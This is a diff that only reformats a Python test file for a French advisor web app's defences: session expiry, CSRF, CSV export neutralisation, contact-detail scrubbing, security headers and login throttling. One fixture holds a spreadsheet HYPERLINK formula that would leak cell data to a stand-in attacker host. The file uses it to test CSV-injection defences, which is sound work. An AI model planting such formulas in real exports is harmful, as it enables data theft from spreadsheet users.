@@ -1,6 +1,7 @@
 """The advisor workspace's defences over HTTP (issue 11, section 3): sessions that end, clear
 4xx pages instead of crashes, neutralised CSV cells, misunderstood messages kept to their
 organisation and scrubbed, security headers, the login throttle and lockout, static files."""
+
 import csv
 import io
 import re
@@ -32,18 +33,23 @@ def client_of(app, **kwargs):
 def signed_in(app, email, **kwargs):
     client = client_of(app, **kwargs)
     token = csrf(client, "/conseil/connexion")
-    response = client.post("/conseil/connexion", data={
-        "email": email, "password": PASSWORD, "csrf": token}, follow_redirects=False)
+    response = client.post(
+        "/conseil/connexion",
+        data={"email": email, "password": PASSWORD, "csrf": token},
+        follow_redirects=False,
+    )
     assert response.status_code == 303
     return client
 
 
 def shows_login(response):
     return response.status_code == 303 and response.headers["location"].endswith(
-        "/conseil/connexion")
+        "/conseil/connexion"
+    )
 
 
 # -- sessions ---------------------------------------------------------------------------------
+
 
 def test_a_cookie_replayed_after_logout_opens_nothing(app):
     claire = signed_in(app, "claire@sem.example")
@@ -75,26 +81,33 @@ def test_a_password_reset_or_disabling_ends_every_session(app, repo):
 
 # -- odd parameters: clear 4xx pages, never a 500 ---------------------------------------------
 
+
 @pytest.mark.parametrize("token", ["jéton", "\u202e", "🙂" * 10])
 def test_a_non_ascii_csrf_token_is_refused_with_a_french_page(app, token):
     anonymous = client_of(app)
     anonymous.get("/conseil/connexion")
-    refused = anonymous.post("/conseil/connexion", data={
-        "email": "claire@sem.example", "password": PASSWORD, "csrf": token})
+    refused = anonymous.post(
+        "/conseil/connexion",
+        data={"email": "claire@sem.example", "password": PASSWORD, "csrf": token},
+    )
     assert refused.status_code == 403 and "Jeton de sécurité invalide" in refused.text
     claire = signed_in(app, "claire@sem.example")
-    refused = claire.post(f"/conseil/demandes/ESS-{YEAR}-0001/note", data={
-        "note": "x", "csrf": token})
+    refused = claire.post(
+        f"/conseil/demandes/ESS-{YEAR}-0001/note", data={"note": "x", "csrf": token}
+    )
     assert refused.status_code == 403 and "Jeton de sécurité invalide" in refused.text
 
 
-@pytest.mark.parametrize("query, words", [
-    ("page=99999999999999999999", "page"),
-    ("page=-3", "page"),
-    ("until=9999-12-31", "date"),
-    ("since=0001-01-01", "date"),
-    ("since=31/12/2026", "date"),
-])
+@pytest.mark.parametrize(
+    "query, words",
+    [
+        ("page=99999999999999999999", "page"),
+        ("page=-3", "page"),
+        ("until=9999-12-31", "date"),
+        ("since=0001-01-01", "date"),
+        ("since=31/12/2026", "date"),
+    ],
+)
 def test_odd_inbox_and_export_parameters_get_a_clear_400(app, query, words):
     admin = signed_in(app, "admin@sem.example")
     for path in ("/conseil/", "/conseil/export.csv"):
@@ -114,8 +127,10 @@ def test_a_page_past_the_last_shows_the_last_one(app):
 def test_an_odd_advisor_on_assignment_gets_a_clear_400(app, repo, value):
     claire = signed_in(app, "claire@sem.example")
     ref = f"ESS-{YEAR}-0001"
-    response = claire.post(f"/conseil/demandes/{ref}/attribution", data={
-        "advisor": value, "csrf": csrf(claire, f"/conseil/demandes/{ref}")})
+    response = claire.post(
+        f"/conseil/demandes/{ref}/attribution",
+        data={"advisor": value, "csrf": csrf(claire, f"/conseil/demandes/{ref}")},
+    )
     assert response.status_code == 400 and "organisation" in response.text
     assert repo.get(ref).advisor_id is None
 
@@ -124,8 +139,9 @@ def test_labelling_a_message_that_does_not_exist_gets_a_clear_404(app):
     admin = signed_in(app, "admin@sem.example")
     token = csrf(admin, "/conseil/incompris")
     for message_id in ("99999999999999999999", "12345"):
-        response = admin.post(f"/conseil/incompris/{message_id}", data={
-            "csrf": token, "action": "dismiss"})
+        response = admin.post(
+            f"/conseil/incompris/{message_id}", data={"csrf": token, "action": "dismiss"}
+        )
         assert response.status_code == 404 and "Message introuvable" in response.text
 
 
@@ -144,11 +160,19 @@ def test_an_unexpected_error_still_gets_a_french_page_with_the_headers(app, repo
 
 # -- CSV export --------------------------------------------------------------------------------
 
+
 def test_every_csv_cell_is_neutralised_even_the_transcript(app, repo):
     evil = '=HYPERLINK("http://evil.example/?leak="&A2;"clic")'
-    repo.save({"confirmation_key": confirmation_key(evil, "m"), "conversation_id": evil,
-               "first_name": "@Léa", "last_name": "+Dupont", "offer_id": "competences",
-               "consent_version": "v1"})
+    repo.save(
+        {
+            "confirmation_key": confirmation_key(evil, "m"),
+            "conversation_id": evil,
+            "first_name": "@Léa",
+            "last_name": "+Dupont",
+            "offer_id": "competences",
+            "consent_version": "v1",
+        }
+    )
     admin = signed_in(app, "admin@sem.example")
     export = admin.get("/conseil/export.csv?q=Dupont")
     rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
@@ -162,29 +186,36 @@ def test_every_csv_cell_is_neutralised_even_the_transcript(app, repo):
 
 # -- misunderstood messages --------------------------------------------------------------------
 
-@pytest.mark.parametrize("said, kept", [
-    ("mon numero perso 06 12 34 56 78 merci", "mon numero perso [téléphone] merci"),
-    ("appelez le 0612345678", "appelez le [téléphone]"),
-    ("tel: 06.12.34.56.78 ou 04-77-12-34-56", "tel: [téléphone] ou [téléphone]"),
-    ("+33 6 12 34 56 78", "[téléphone]"),
-    ("+33 (0)6 12 34 56 78 le soir", "[téléphone] le soir"),
-    ("0033 6 12 34 56 78", "[téléphone]"),
-    ("à Londres +44 20 7946 0958", "à Londres [téléphone]"),
-    ("écrivez à Lea.Martin+ess@exemple.co.fr svp", "écrivez à [e-mail] svp"),
-    ("lea@asso-firminy.org / 06 12 34 56 78", "[e-mail] / [téléphone]"),
-])
+
+@pytest.mark.parametrize(
+    "said, kept",
+    [
+        ("mon numero perso 06 12 34 56 78 merci", "mon numero perso [téléphone] merci"),
+        ("appelez le 0612345678", "appelez le [téléphone]"),
+        ("tel: 06.12.34.56.78 ou 04-77-12-34-56", "tel: [téléphone] ou [téléphone]"),
+        ("+33 6 12 34 56 78", "[téléphone]"),
+        ("+33 (0)6 12 34 56 78 le soir", "[téléphone] le soir"),
+        ("0033 6 12 34 56 78", "[téléphone]"),
+        ("à Londres +44 20 7946 0958", "à Londres [téléphone]"),
+        ("écrivez à Lea.Martin+ess@exemple.co.fr svp", "écrivez à [e-mail] svp"),
+        ("lea@asso-firminy.org / 06 12 34 56 78", "[e-mail] / [téléphone]"),
+    ],
+)
 def test_scrub_replaces_e_mails_and_phone_numbers(said, kept):
     from bot.workspace.scrub import scrub
 
     assert scrub(said) == kept
 
 
-@pytest.mark.parametrize("said", [
-    "on est 12 salariés depuis 2019 à Firminy 42700",
-    "un budget de 150 000 euros en 2026",
-    "SIRET 123 456 789",
-    "jveu ouvrir 1 2eme boutik a firminy",
-])
+@pytest.mark.parametrize(
+    "said",
+    [
+        "on est 12 salariés depuis 2019 à Firminy 42700",
+        "un budget de 150 000 euros en 2026",
+        "SIRET 123 456 789",
+        "jveu ouvrir 1 2eme boutik a firminy",
+    ],
+)
 def test_scrub_keeps_ordinary_numbers(said):
     from bot.workspace.scrub import scrub
 
@@ -192,8 +223,9 @@ def test_scrub_keeps_ordinary_numbers(said):
 
 
 def test_misunderstood_messages_are_stored_without_contact_details(repo):
-    repo.record_misunderstood("c1", "mon numero perso 06 12 34 56 78, mail lea@example.org",
-                              [], organisation_id="sem-ess")
+    repo.record_misunderstood(
+        "c1", "mon numero perso 06 12 34 56 78, mail lea@example.org", [], organisation_id="sem-ess"
+    )
     with repo.sessions() as session:
         stored = session.scalar(select(MisunderstoodMessage.text))
     assert stored == "mon numero perso [téléphone], mail [e-mail]"
@@ -214,18 +246,30 @@ def test_an_organisation_reads_and_labels_only_its_misunderstood_messages(app, r
     assert all(t in page for t in ("la SEM", "pour Unis-Cité", "avant toute orientation"))
 
     with repo.sessions() as session:
-        ids = dict(session.execute(select(MisunderstoodMessage.conversation_id,
-                                          MisunderstoodMessage.id)).all())
+        ids = dict(
+            session.execute(
+                select(MisunderstoodMessage.conversation_id, MisunderstoodMessage.id)
+            ).all()
+        )
     token = csrf(claire, "/conseil/incompris")
-    stolen = claire.post(f"/conseil/incompris/{ids['c2']}", data={
-        "csrf": token, "action": "label", "intent": "situation_duplication"})
+    stolen = claire.post(
+        f"/conseil/incompris/{ids['c2']}",
+        data={"csrf": token, "action": "label", "intent": "situation_duplication"},
+    )
     assert stolen.status_code == 404
-    own = claire.post(f"/conseil/incompris/{ids['c1']}", data={
-        "csrf": token, "action": "label", "intent": "situation_duplication"})
+    own = claire.post(
+        f"/conseil/incompris/{ids['c1']}",
+        data={"csrf": token, "action": "label", "intent": "situation_duplication"},
+    )
     assert own.status_code == 200
-    yann.post(f"/conseil/incompris/{ids['c2']}", data={
-        "csrf": csrf(yann, "/conseil/incompris"), "action": "label",
-        "intent": "situation_reve_et_realise"})
+    yann.post(
+        f"/conseil/incompris/{ids['c2']}",
+        data={
+            "csrf": csrf(yann, "/conseil/incompris"),
+            "action": "label",
+            "intent": "situation_reve_et_realise",
+        },
+    )
     assert "Unis-Cité" not in claire.get("/conseil/incompris/export.yml").text
     assert "Unis-Cité" in admin.get("/conseil/incompris/export.yml").text
 
@@ -238,8 +282,10 @@ def test_the_fallback_action_keeps_the_organisation_of_the_offer(repo, monkeypat
 
     class Tracker:
         sender_id = "c5"
-        latest_message = {"text": "joignable au 06 12 34 56 78", "intent_ranking": [
-            {"name": "nlu_fallback", "confidence": 0.3}]}
+        latest_message = {
+            "text": "joignable au 06 12 34 56 78",
+            "intent_ranking": [{"name": "nlu_fallback", "confidence": 0.3}],
+        }
 
         def __init__(self, offer):
             self.slots = {"offer": offer}
@@ -251,9 +297,11 @@ def test_the_fallback_action_keeps_the_organisation_of_the_offer(repo, monkeypat
     _keep_for_review(Tracker(None))
     _keep_for_review(Tracker("une-offre-retiree"))
     with repo.sessions() as session:
-        kept = session.execute(select(MisunderstoodMessage.organisation_id,
-                                      MisunderstoodMessage.text)
-                               .order_by(MisunderstoodMessage.id)).all()
+        kept = session.execute(
+            select(MisunderstoodMessage.organisation_id, MisunderstoodMessage.text).order_by(
+                MisunderstoodMessage.id
+            )
+        ).all()
     assert [o for o, _ in kept] == [catalogue.offers["reve-et-realise"].organisation, None, None]
     assert kept[0][1] == "joignable au [téléphone]"
 
@@ -261,27 +309,45 @@ def test_the_fallback_action_keeps_the_organisation_of_the_offer(repo, monkeypat
 def test_erasing_a_lead_erases_the_rest_of_its_conversation(app, repo, tmp_path):
     tracker = create_engine(f"sqlite:///{tmp_path / 't.db'}", future=True)
     with tracker.begin() as c:
-        c.execute(text("CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, "
-                       "type_name TEXT, timestamp FLOAT, intent_name TEXT, "
-                       "action_name TEXT, data TEXT)"))
-        c.execute(text("INSERT INTO events (sender_id, type_name, timestamp, data) VALUES "
-                       "('c2', 'user', 1, '{\"text\": \"mon projet\"}'), "
-                       "('c2', 'bot', 2, '{\"text\": \"Rêve et Réalise\"}'), "
-                       "('c1', 'user', 3, '{\"text\": \"autre personne\"}')"))
+        c.execute(
+            text(
+                "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, "
+                "type_name TEXT, timestamp FLOAT, intent_name TEXT, "
+                "action_name TEXT, data TEXT)"
+            )
+        )
+        c.execute(
+            text(
+                "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES "
+                "('c2', 'user', 1, '{\"text\": \"mon projet\"}'), "
+                "('c2', 'bot', 2, '{\"text\": \"Rêve et Réalise\"}'), "
+                "('c1', 'user', 3, '{\"text\": \"autre personne\"}')"
+            )
+        )
     repo.record_misunderstood("c2", "un message pas compris", [], organisation_id="unis-cite")
     repo.record_misunderstood("c1", "un autre", [], organisation_id="sem-ess")
     repo.record_feedback("c2", True, "reve-et-realise", "merci")
     admin = signed_in(app, "admin@sem.example")
     ref = f"ESS-{YEAR}-0002"
-    admin.post(f"/conseil/demandes/{ref}/note", data={
-        "note": "appelée", "csrf": csrf(admin, f"/conseil/demandes/{ref}")})
-    erased = admin.post(f"/conseil/demandes/{ref}/effacer", data={
-        "csrf": csrf(admin, f"/conseil/demandes/{ref}"), "confirm": "oui"})
+    admin.post(
+        f"/conseil/demandes/{ref}/note",
+        data={"note": "appelée", "csrf": csrf(admin, f"/conseil/demandes/{ref}")},
+    )
+    erased = admin.post(
+        f"/conseil/demandes/{ref}/effacer",
+        data={"csrf": csrf(admin, f"/conseil/demandes/{ref}"), "confirm": "oui"},
+    )
     assert erased.status_code == 200 and "La demande a été effacée" in erased.text
     assert "un message pas compris" not in admin.get("/conseil/incompris").text
     with repo.sessions() as session:
-        assert session.scalar(select(func.count()).select_from(MisunderstoodMessage)
-                              .where(MisunderstoodMessage.conversation_id == "c2")) == 0
+        assert (
+            session.scalar(
+                select(func.count())
+                .select_from(MisunderstoodMessage)
+                .where(MisunderstoodMessage.conversation_id == "c2")
+            )
+            == 0
+        )
         assert session.scalar(select(func.count()).select_from(Feedback)) == 0
         assert session.scalar(select(func.count()).select_from(MisunderstoodMessage)) == 1
         assert session.scalar(select(func.count()).select_from(Lead)) == 2
@@ -289,20 +355,27 @@ def test_erasing_a_lead_erases_the_rest_of_its_conversation(app, repo, tmp_path)
     with tracker.connect() as c:
         assert c.execute(text("SELECT sender_id FROM events")).scalars().all() == ["c1"]
     assert [(e.requested_by, e.channel, e.leads, e.tracker_events) for e in log] == [
-        ("advisor", "rest", 1, 2)]
+        ("advisor", "rest", 1, 2)
+    ]
     # The lead, its history row, its note, the misunderstood message, the feedback.
     assert log[0].rows == 5
 
 
 # -- response headers -------------------------------------------------------------------------
 
+
 def test_every_response_carries_the_security_headers(app):
     client = client_of(app)
     claire = signed_in(app, "claire@sem.example")
-    responses = [client.get(p) for p in ("/", "/widget.js", "/offres", "/conseil/connexion",
-                                         "/offres/inconnue", "/sante")]
-    responses += [client.post("/chat", content=b"{"), claire.get("/conseil/"),
-                  claire.get("/conseil/export.csv")]
+    responses = [
+        client.get(p)
+        for p in ("/", "/widget.js", "/offres", "/conseil/connexion", "/offres/inconnue", "/sante")
+    ]
+    responses += [
+        client.post("/chat", content=b"{"),
+        claire.get("/conseil/"),
+        claire.get("/conseil/export.csv"),
+    ]
     for response in responses:
         headers = response.headers
         policy = headers["content-security-policy"]
@@ -316,10 +389,19 @@ def test_every_response_carries_the_security_headers(app):
 def test_pages_need_no_inline_style_or_script(app):
     """What the policy forbids is absent: every style and script comes from a file."""
     claire = signed_in(app, "claire@sem.example")
-    pages = [claire.get(p).text for p in ("/conseil/", f"/conseil/demandes/ESS-{YEAR}-0001",
-                                          "/conseil/incompris", "/conseil/chiffres")]
-    pages += [client_of(app).get(p).text for p in ("/", "/offres", "/offres/competences",
-                                                    "/conseil/connexion")]
+    pages = [
+        claire.get(p).text
+        for p in (
+            "/conseil/",
+            f"/conseil/demandes/ESS-{YEAR}-0001",
+            "/conseil/incompris",
+            "/conseil/chiffres",
+        )
+    ]
+    pages += [
+        client_of(app).get(p).text
+        for p in ("/", "/offres", "/offres/competences", "/conseil/connexion")
+    ]
     for html in pages:
         assert "<style" not in html and " style=" not in html
         assert not re.search(r"<script(?![^>]*\bsrc=)", html)
@@ -332,14 +414,20 @@ def test_pages_need_no_inline_style_or_script(app):
 
 # -- login ------------------------------------------------------------------------------------
 
+
 def wrong_logins(base_url, count, forwarded):
     with httpx.Client(base_url=base_url) as client:
-        token = re.search(r'name="csrf" value="([^"]+)"',
-                          client.get("/conseil/connexion").text).group(1)
-        return [client.post("/conseil/connexion", data={
-            "email": f"x{i}@example.org", "password": "nope", "csrf": token},
-            headers={"X-Forwarded-For": forwarded(i)} if forwarded else {}).status_code
-            for i in range(count)]
+        token = re.search(
+            r'name="csrf" value="([^"]+)"', client.get("/conseil/connexion").text
+        ).group(1)
+        return [
+            client.post(
+                "/conseil/connexion",
+                data={"email": f"x{i}@example.org", "password": "nope", "csrf": token},
+                headers={"X-Forwarded-For": forwarded(i)} if forwarded else {},
+            ).status_code
+            for i in range(count)
+        ]
 
 
 def test_a_rotated_x_forwarded_for_does_not_escape_the_throttle(app):
@@ -351,8 +439,9 @@ def test_a_rotated_x_forwarded_for_does_not_escape_the_throttle(app):
 
 
 def test_x_forwarded_for_counts_behind_a_configured_proxy(repo, tmp_path):
-    app = create_app(web_settings(tmp_path, trusted_proxies="10.0.0.0/24, 127.0.0.1"),
-                     repository=repo)
+    app = create_app(
+        web_settings(tmp_path, trusted_proxies="10.0.0.0/24, 127.0.0.1"), repository=repo
+    )
     with serve(app) as url:
         # nginx on loopback, one person behind it each time: each has their own budget.
         assert wrong_logins(url, 21, lambda i: f"203.0.113.{i}") == [401] * 21
@@ -362,19 +451,27 @@ def test_x_forwarded_for_counts_behind_a_configured_proxy(repo, tmp_path):
 
 
 def test_x_forwarded_for_is_ignored_from_an_address_not_configured(repo, tmp_path):
-    client = TestClient(create_app(web_settings(tmp_path, trusted_proxies="10.0.0.1"),
-                                   repository=repo), client=("192.0.2.50", 4444))
+    client = TestClient(
+        create_app(web_settings(tmp_path, trusted_proxies="10.0.0.1"), repository=repo),
+        client=("192.0.2.50", 4444),
+    )
     token = csrf(client, "/conseil/connexion")
-    codes = [client.post("/conseil/connexion", data={
-        "email": f"x{i}@example.org", "password": "nope", "csrf": token},
-        headers={"X-Forwarded-For": f"203.0.113.{i}"}).status_code for i in range(21)]
+    codes = [
+        client.post(
+            "/conseil/connexion",
+            data={"email": f"x{i}@example.org", "password": "nope", "csrf": token},
+            headers={"X-Forwarded-For": f"203.0.113.{i}"},
+        ).status_code
+        for i in range(21)
+    ]
     assert codes[20] == 429
 
 
 def test_a_mistyped_trusted_proxy_stops_the_start_with_a_clear_message(repo, tmp_path):
     with pytest.raises(ValueError, match="« nginx.local » n'est ni une adresse"):
-        create_app(web_settings(tmp_path, trusted_proxies="127.0.0.1, nginx.local"),
-                   repository=repo)
+        create_app(
+            web_settings(tmp_path, trusted_proxies="127.0.0.1, nginx.local"), repository=repo
+        )
 
 
 def test_without_a_configured_key_sessions_are_signed_with_one_kept_in_var(repo, tmp_path):
@@ -386,8 +483,10 @@ def test_without_a_configured_key_sessions_are_signed_with_one_kept_in_var(repo,
     assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_text().strip()) >= 48
     restarted = TestClient(create_app(settings, repository=repo), cookies=first.cookies)
     assert csrf(restarted, "/conseil/connexion") == token
-    other = TestClient(create_app(web_settings(tmp_path / "other", secret_key=None),
-                                  repository=repo), cookies=first.cookies)
+    other = TestClient(
+        create_app(web_settings(tmp_path / "other", secret_key=None), repository=repo),
+        cookies=first.cookies,
+    )
     assert csrf(other, "/conseil/connexion") != token
 
 
@@ -415,13 +514,16 @@ def test_a_disabled_advisor_cannot_be_assigned(app, repo):
     advisors.disable("paul@sem.example")
     claire = signed_in(app, "claire@sem.example")
     ref = f"ESS-{YEAR}-0001"
-    response = claire.post(f"/conseil/demandes/{ref}/attribution", data={
-        "advisor": str(paul.id), "csrf": csrf(claire, f"/conseil/demandes/{ref}")})
+    response = claire.post(
+        f"/conseil/demandes/{ref}/attribution",
+        data={"advisor": str(paul.id), "csrf": csrf(claire, f"/conseil/demandes/{ref}")},
+    )
     assert response.status_code == 400 and "désactivé" in response.text
     assert repo.get(ref).advisor_id is None
 
 
 # -- static files -----------------------------------------------------------------------------
+
 
 def test_a_many_range_header_on_the_widget_costs_nothing(app):
     """CVE-2025-62727: ranges were parsed in quadratic time; the widget ignores ranges."""
@@ -460,9 +562,10 @@ def test_the_widget_proxy_tells_rasa_who_is_writing(repo, tmp_path):
 
     rasa = Starlette(routes=[Route("/webhooks/rest/webhook", webhook, methods=["POST"])])
     with serve(rasa) as rasa_url:
-        client = TestClient(create_app(web_settings(tmp_path, rasa_url=rasa_url),
-                                       repository=repo),
-                            client=("203.0.113.7", 5555))
+        client = TestClient(
+            create_app(web_settings(tmp_path, rasa_url=rasa_url), repository=repo),
+            client=("203.0.113.7", 5555),
+        )
         answer = client.post("/chat", json={"sender": "w1", "message": "bonjour"})
     assert answer.status_code == 200 and answer.json()[0]["text"] == "Bonjour !"
     assert seen == ["203.0.113.7"]
@@ -470,6 +573,7 @@ def test_the_widget_proxy_tells_rasa_who_is_writing(repo, tmp_path):
 
 def test_session_cookies_are_secure_unless_the_settings_say_plain_http(repo, tmp_path):
     """BOUSSOLE_COOKIE_SECURE=0 (scripts/run.sh on loopback) is the only way to lose `Secure`."""
+
     def cookie(**environ):
         settings = web_settings(tmp_path, secure_cookies=Settings.from_env(environ).secure_cookies)
         client = TestClient(create_app(settings, repository=repo), base_url="https://testserver")
